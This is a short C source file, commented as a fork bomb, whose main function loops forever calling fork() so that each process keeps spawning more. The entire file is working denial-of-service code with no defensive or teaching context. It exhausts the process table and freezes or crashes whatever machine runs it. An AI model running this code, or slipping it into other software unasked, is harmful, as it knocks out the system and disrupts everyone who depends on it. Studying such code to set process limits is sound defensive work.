/* A fork bomb, all of whose processes go on, with children or without. */
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
